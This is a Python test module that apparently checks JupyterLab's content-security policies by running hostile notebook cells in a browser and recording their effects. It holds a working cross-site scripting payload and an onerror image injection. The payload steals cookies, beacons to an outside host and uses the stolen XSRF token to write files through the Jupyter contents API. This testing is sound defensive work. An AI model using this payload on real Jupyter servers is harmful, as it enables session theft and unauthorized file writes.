"""Runs hostile cells in a JupyterLab page and tells what each of them reached."""

from __future__ import annotations

import json
import re
from collections import defaultdict
from collections.abc import Callable, Sequence
from pathlib import Path
from typing import Any

import nbformat
from playwright.sync_api import BrowserContext, Frame, Page, Request, expect
from playwright.sync_api import Error as PlaywrightError

from .attack_vectors import COOKIE, PREAMBLE, REQUESTS, TOP, WRITES, Vector
from .elsewhere import Elsewhere
from .lab import Lab, Notebook, run_command

# No white space, quotation marks, angle brackets, dollars, ampersands: it must stand in any attribute and any language.
_SCRIPT = (
    "(function(v,e,o){"
    "self[`ran_`+v]=1;"
    "try{if(document.cookie)self[`cookie_`+v]=document.cookie}catch{}"
    "try{top[`pwned_`+v]=1}catch{}"
    "try{parent.parent[`pwned_`+v]=1}catch{}"
    "try{fetch(e+`/fetch`,{mode:`no-cors`})}catch{}"
    "try{document.createElement(`img`).src=e+`/image`}catch{}"
    "try{navigator.sendBeacon(e+`/beacon`)}catch{}"
    "try{fetch(o+`api/contents/pwned-`+v+`.txt`,{method:`PUT`,credentials:`include`,headers:{"
    "[`Content-Type`]:`application/json`,[`X-XSRFToken`]:document.cookie.match(/_xsrf=([^;]+)/)[1]},"
    "body:JSON.stringify({type:`file`,format:`text`,content:v})})}catch{}"
    "})(`@NAME@`,`@URL@`,`@LAB@`)"
)
_MARKED = re.compile(r"/v-([\w-]+)/")
_MARKS = (
    """(prefix) => Object.keys(window).filter((key) => key.startsWith(prefix)).map((key) => key.slice(prefix.length))"""
)
_CLICK = """() => {
    const isBait = (node) => node.textContent === 'bait' && node.children.length === 0;
    for (const node of [...document.querySelectorAll('a, button, svg text, mjx-container *')].filter(isBait)) {
        node.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true }));
    }
    for (const node of document.querySelectorAll('canvas.marks')) {
        const box = node.getBoundingClientRect();
        const point = { clientX: box.x + box.width / 2, clientY: box.y + box.height / 2 };
        for (const type of ['pointerover', 'pointermove', 'mouseover', 'mousemove']) {
            node.dispatchEvent(new PointerEvent(type, { bubbles: true, cancelable: true, composed: true, ...point }));
        }
    }
}"""
# A browser asks for a dictionary only when it has nothing else to do, and for one after the other.
_ASK_FOR_DICTIONARY = """(href) => {
    document.body.append(Object.assign(document.createElement('link'), { rel: 'compression-dictionary', href }));
}"""
# A notebook's cells that are out of sight are not rendered by default; an attacker's user scrolls.
RENDER_ALL = {"@jupyterlab/notebook-extension:tracker": {"windowingMode": "none"}}


class Trial:
    """One page and kernel with one policy. After `run`, `reached` has each vector's effects."""

    def __init__(self, context: BrowserContext, lab: Lab, elsewhere: Elsewhere, policy: str) -> None:
        self.lab = lab
        self.page = lab.page
        self.policy = policy
        self.reached: defaultdict[str, set[str]] = defaultdict(set)
        self.ran: set[str] = set()
        """Vectors whose script ran somewhere, be it in a frame that it cannot leave."""
        self.dialogs: list[str] = []
        self.popups: list[str] = []
        self.downloads: list[str] = []
        self.notebook: Notebook
        self._elsewhere = elsewhere
        self._requests: dict[Request, str] = {}
        context.on("request", self._on_request)
        context.on("requestfailed", self._on_failed)
        self.page.on("popup", self._on_popup)
        self.page.on("dialog", self._on_dialog)
        self.page.on("download", lambda download: self.downloads.append(download.url))
        self._url = ""

    # ---- what the browser says

    def _on_request(self, request: Request) -> None:
        self._requests[request] = request.url

    def _on_failed(self, request: Request) -> None:
        # What a policy stops is announced like a request, and never leaves the browser.
        if "csp" in (request.failure or "").lower():
            self._requests.pop(request, None)

    def _on_popup(self, page: Page) -> None:
        self.popups.append(page.url)
        page.close()

    def _on_dialog(self, dialog: Any) -> None:
        if dialog.type == "beforeunload":
            dialog.accept()
        else:
            self.dialogs.append(dialog.message)
            dialog.dismiss()

    # ---- the attack

    def source(self, vector: Vector, lab_url: str) -> str:
        """Return the code of a vector's cell for this policy."""
        name = f"{self.policy}-{vector.name}"
        url = f"{self._elsewhere.url}/v-{name}"
        code = vector.code
        if "SCRIPTED" in code:
            code = f"SCRIPTED = '<img src=x onerror=\"@JS@\">'\n{code}"
        if "@PORT@" in code:
            code = code.replace("@PORT@", str(self._elsewhere.port(name)))
        values = {
            "JS": _SCRIPT,
            "URL_NO_SCHEME": url.removeprefix("http:"),
            "URL": url,
            "LOCAL": f"{lab_url}v-{name}",
            "LAB": lab_url,
            "NAME": name,
        }
        for word, value in values.items():
            code = code.replace(f"@{word}@", value)
        return code

    def open(self, vectors: Sequence[Vector], path: str) -> None:
        """Write a notebook with the vectors, open it and run all of it."""
        lab = self.lab
        sources = [PREAMBLE, *(self.source(vector, lab.server.url) for vector in vectors)]
        _write(lab.server.root / path, sources, lab.kernel_name)
        self.notebook = lab.open_path(path)
        self._url = self.page.url
        run_command(self.page, "notebook:run-all-cells")
        expect(self.notebook.cell(len(sources) - 1).prompt).to_have_text(re.compile(r"^\[\d+\]:$"))

    def click_everything(self) -> None:
        """Click whatever says "bait" and point at charts, in the page and in frames, with a user's right to do so."""
        for frame in self.page.frames:
            _evaluate(frame, _CLICK)

    def settle(self) -> None:
        """Wait until every frame is loaded, and until an attack of the test's own, begun now, has had its effects."""
        for frame in list(self.page.frames)[1:]:
            _wait_for_load(frame)
        canary = Vector(f"canary-{len(self._requests)}", "@JS@")
        name = f"{self.policy}-{canary.name}"
        self.page.evaluate(self.source(canary, self.lab.server.url))
        file = self.lab.server.root / f"pwned-{name}.txt"
        self._wait_until(
            lambda: file.exists() and any(name in path for path in self._elsewhere.requests),
            otherwise="the check's own attack has no effect",
        )

    def wait_until_idle(self) -> None:
        """Wait until the browser has done what it does when the page has nothing else to do."""
        path = f"/v-{self.policy}-idle-{len(self._requests)}/dictionary"
        self.page.evaluate(_ASK_FOR_DICTIONARY, f"{self._elsewhere.url}{path}")
        self._wait_until(lambda: path in self._elsewhere.requests, otherwise="the browser does no idle work")

    def _wait_until(self, condition: Callable[[], bool], *, otherwise: str) -> None:
        deadline = 600
        while not condition():
            deadline -= 1
            assert deadline, otherwise
            self.page.wait_for_timeout(50)

    def collect(self) -> None:
        """Note what was reached until now."""
        for file in self.lab.server.root.glob("pwned-*.txt"):
            self._add(WRITES, file.stem.removeprefix("pwned-"))
        for file in self.lab.server.root.glob("untitled*.*"):
            # What a command of JupyterLab makes that an output names.
            self._add(WRITES, file.suffix.removeprefix("."))
        for name in _evaluate(self.page.main_frame, _MARKS, "pwned_"):
            self._add(TOP, name)
        for frame in self.page.frames:
            for name in _evaluate(frame, _MARKS, "cookie_"):
                self._add(COOKIE, name)
            self.ran.update(self._own(name) for name in _evaluate(frame, _MARKS, "ran_"))
        for address in [*self._requests.values(), *self._elsewhere.requests]:
            for name in _MARKED.findall(address):
                self._add(REQUESTS, name)
        for name in self._elsewhere.visited():
            self._add(REQUESTS, name)

    @property
    def is_still_there(self) -> bool:
        """Whether the page is the one that was opened."""
        return self.page.url.partition("#")[0] == self._url.partition("#")[0]

    def _add(self, effect: str, name: str) -> None:
        if name.startswith(f"{self.policy}-"):
            self.reached[self._own(name)].add(effect)

    def _own(self, name: str) -> str:
        return name.removeprefix(f"{self.policy}-")


def _evaluate(frame: Frame, script: str, argument: Any = None) -> Any:
    try:
        return frame.evaluate(script, argument)
    except PlaywrightError:
        # A frame that went away meanwhile, or that has no document, holds nothing.
        return []


def _wait_for_load(frame: Frame) -> None:
    try:
        frame.wait_for_load_state("load", timeout=5000)
    except PlaywrightError:
        # Gone, or it loads something that never comes.
        return


def _write(path: Path, sources: Sequence[str], kernel_name: str) -> None:
    """Write a notebook whose cells all run, whatever fails."""
    cells = [
        nbformat.v4.new_code_cell(source, metadata={"tags": ["raises-exception"]})  # type: ignore[no-untyped-call]
        for source in sources
    ]
    kernelspec = {"name": kernel_name, "display_name": kernel_name, "language": "python"}
    notebook = nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": kernelspec})  # type: ignore[no-untyped-call]
    path.write_text(json.dumps(notebook))
